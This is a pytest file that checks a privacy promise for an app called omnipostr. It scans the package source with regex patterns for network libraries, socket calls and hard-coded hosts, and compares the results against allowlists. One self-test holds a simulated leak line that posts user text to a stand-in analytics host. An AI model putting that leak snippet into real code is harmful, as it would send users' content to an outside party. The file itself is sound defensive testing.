"""NOT-1: no code path sends content anywhere but the configured AI engine.

Read the product's own source: the only modules that open network connections are the
adapters for Anthropic (the AI engine), SMTP (email), the sign-in providers (Google, GitHub), Stripe (payments)
and URL import (which fetches the page a user asked for and sends nothing of theirs); the
only hosts written in the code are those services' own."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

PACKAGE = Path(__file__).resolve().parent.parent / "omnipostr"

NETWORK_MODULES = re.compile(
    r"^\s*(?:import|from)\s+(httpx|anthropic|authlib|smtplib|aiosmtplib|requests|aiohttp|urllib\.request|http\.client|websockets|stripe)\b",
    re.M,
)
SOCKET_USE = re.compile(r"socket\.(?:socket|create_connection)\(|open_connection\(")

ALLOWED_ADAPTERS = {
    "repurpose/engines/claude.py": "Anthropic (the AI engine)",
    "notify/smtp.py": "the configured SMTP server",
    "accounts/oauth.py": "Google and GitHub sign-in",
    "sources/urlimport.py": "fetching the page a user asked to import (sends no content)",
    "billing/stripe_gateway.py": "Stripe (payments: the payer's name and email address, never content)",
}
ALLOWED_HOSTS = {
    "api.anthropic.com",
    "api.stripe.com",
    "accounts.google.com",
    "github.com",
    "api.github.com",
    "omnipostr.com",  # the crawler's info page in the URL-import user agent
    "schemas.openxmlformats.org",  # an XML namespace when reading .docx files, never fetched
}


def sources() -> list[tuple[str, str]]:
    return [(p.relative_to(PACKAGE).as_posix(), p.read_text(encoding="utf-8")) for p in sorted(PACKAGE.rglob("*.py"))]


@pytest.mark.promise("NOT-1")
def test_only_the_known_adapters_open_network_connections():
    talking = {name for name, text in sources() if NETWORK_MODULES.search(text) or SOCKET_USE.search(text)}
    assert talking == set(ALLOWED_ADAPTERS), talking ^ set(ALLOWED_ADAPTERS)


@pytest.mark.promise("NOT-1")
def test_the_only_hosts_in_the_code_are_those_services():
    hosts = set()
    for _, text in sources():
        for host in re.findall(r"https?://([A-Za-z0-9.\-]+)", text):
            if host not in ("localhost", "127.0.0.1") and not host.endswith("example.com") and host != ".":
                hosts.add(host)
    assert hosts <= ALLOWED_HOSTS, hosts - ALLOWED_HOSTS


@pytest.mark.promise("NOT-1")
def test_the_scan_sees_a_new_outbound_path(tmp_path):
    """The checks above are not vacuous: a module posting content elsewhere is caught."""
    leak = 'import httpx\nhttpx.post("https://collector.analytics.invalid/ingest", json={"text": text})\n'
    assert NETWORK_MODULES.search(leak)
    assert re.findall(r"https?://([A-Za-z0-9.\-]+)", leak) == ["collector.analytics.invalid"]
